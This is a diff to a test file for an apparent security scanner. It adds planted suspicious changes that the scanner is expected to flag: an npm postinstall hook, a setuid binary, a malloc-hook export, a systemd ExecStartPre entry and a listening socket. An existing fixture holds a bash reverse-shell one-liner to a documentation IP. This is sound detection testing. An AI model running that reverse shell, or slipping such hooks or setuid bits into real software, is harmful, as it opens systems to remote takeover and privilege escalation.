@@ -1,4 +1,6 @@
-"""Ten planted changes among ordinary ones: each is the first of its comparison, and no ordinary one is severe."""
+"""Fifteen planted changes among ordinary ones: each is the first of its comparison, and no ordinary one is severe."""
+
+from hashlib import sha256
 
 import pytest
 from tests.support.hardened import hardened
@@ -16,12 +18,13 @@ def program(*imports, texts=()):
 
 
 def examined(version, files):
-    """``files`` are (path, package, kind, content)."""
+    """``files`` are (path, package, kind, content); the digest is of the content, as a scan makes it."""
     profiles, findings = [], []
-    for number, (path, package, kind, content) in enumerate(files):
+    for path, package, kind, content in files:
+        content, mode = content if isinstance(content, tuple) else (content, 0o755)
         purl = f"pkg:{package}@{version}" if package else ""
-        names, found = profile(ExaminedFile(path, 0, kind, content, owner=purl))
-        profiles.append(Profile(path, 0, names, purl, f"{version} {number}"))
+        names, found = profile(ExaminedFile(path, 0, kind, content, owner=purl, mode=mode))
+        profiles.append(Profile(path, 0, names, purl, sha256(content).hexdigest()))
         findings += found
     return Examined(len(profiles), tuple(profiles), tuple(findings))
 
@@ -65,6 +68,23 @@ PLANTED = {
     ),
     "a script of nobody gives away a shell": (
         "opt/run.sh", "", "shell", b"echo started\n", b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
+    ),
+    "a package of npm runs code when it is installed": (
+        "app/node_modules/pad/package.json", "npm/pad", "manifest", b'{"name": "pad", "scripts": {"test": "x"}}',
+        b'{"name": "pad", "scripts": {"test": "x", "postinstall": "node setup.js"}}',
+    ),
+    "a program gives the rights of its owner": (
+        "usr/bin/show", "deb/debian/show", "program", (program(), 0o755), (program(), 0o4755),
+    ),
+    "a library takes the place of the memory allocator": (
+        LIBRARY.format("zip", 4), "deb/debian/libzip4", "program", program(), hardened(("memcpy",), exports=("__malloc_hook",)),
+    ),
+    "a unit of systemd starts a program": (
+        "etc/systemd/system/report.service", "", "unit", b"[Unit]\nDescription=Reports\n",
+        b"[Unit]\nDescription=Reports\n[Service]\nExecStartPre=-/opt/report\n",
+    ),
+    "an exporter listens": (
+        "opt/export.py", "", "python", b"import socket\n", b"import socket\nserver = socket.socket()\nserver.listen(5)\n",
     ),
 }  # fmt: skip
 
